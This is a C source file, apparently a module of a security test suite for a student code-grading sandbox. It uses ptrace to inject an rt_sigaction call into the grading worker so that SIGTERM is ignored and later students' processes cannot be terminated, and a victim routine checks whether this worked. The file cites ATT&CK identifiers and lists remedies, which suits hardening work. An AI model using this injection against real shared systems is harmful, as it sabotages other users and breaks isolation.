// SPDX-License-Identifier: MIT
/*
 * Goal:  the next student's program fails.
 * Means: a signal that is ignored. Unlike a handler it stays so over execve(2), for all that are
 *        started from then on. By ptrace(2) the worker is made to ignore SIGTERM, which it does
 *        not need itself: what the next student wants to end does not end.
 *
 *     worker: poll() ... stopped: sigaction(SIGTERM, SIG_IGN) ... poll()
 *     next student: fork, kill(child, SIGTERM), wait ... wait
 */
#include "attacks/attack.h"
#include "attacks/peer-tampering/puppet.h"

#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#define LIMIT 1500 /* milliseconds: an exercise has a time limit of its own */

static enum claim run(const struct brief *b)
{
	struct user_regs_struct was;
	const long action[4] = { (long)SIG_IGN }; /* as the kernel has it: handler first */
	unsigned long at;
	long r = 0;

	attempting(b);
	if (puppet_stop(b->worker, &was))
		return denied("PTRACE_ATTACH");
	at = was.rsp - PUPPET_ROOM;
	for (unsigned long i = 0; i < 4; i++)
		r |= ptrace(PTRACE_POKEDATA, b->worker, at + i * sizeof(long), action[i]);
	if (!r)
		r = puppet_call(b->worker, &was, SYS_rt_sigaction,
				(unsigned long[4]){ SIGTERM, at, 0, sizeof(long) });
	ptrace(PTRACE_DETACH, b->worker, 0, 0);
	return r ? denied("ptrace") : CLAIM_DONE;
}

/* An exercise about processes: start one, and end it. */
static enum claim victim(const struct brief *b)
{
	const struct timespec tick = { .tv_nsec = 1000000 };
	pid_t child = fork();
	int status = 0;

	(void)b;
	if (child < 0)
		return CLAIM_DONE; /* where processes are refused, on paper */
	if (child == 0) {
		for (int i = 0; i < 2 * LIMIT; i++)
			nanosleep(&tick, NULL);
		_exit(0);
	}
	kill(child, SIGTERM);
	for (int i = 0; i < LIMIT && waitpid(child, &status, WNOHANG) == 0; i++)
		nanosleep(&tick, NULL);
	if (WIFSIGNALED(status) && WTERMSIG(status) == SIGTERM)
		return CLAIM_DONE;
	kill(child, SIGKILL);
	errno = ETIMEDOUT;
	return failed("the child's end");
}

const struct attack attack = {
	.effect = "what the next student ends by SIGTERM does not end",
	.means = "ptrace(2): the worker is made to ignore a signal, which its children inherit",
	.oracle = "victim",
	.scene = SCENE_BEFORE_VICTIM,
	.needs = NEED_X86_64,
	.attack_id = "T1055.008, T1499, CWE-459",
	.remedy = "no signal ignored in a new program; seccomp without ptrace; a non-dumpable "
		  "worker",
	.refs = (const char *const[]){ "signal(7), execve(2)", "ptrace(2)", NULL },
	.run = run,
	.victim = victim,
};
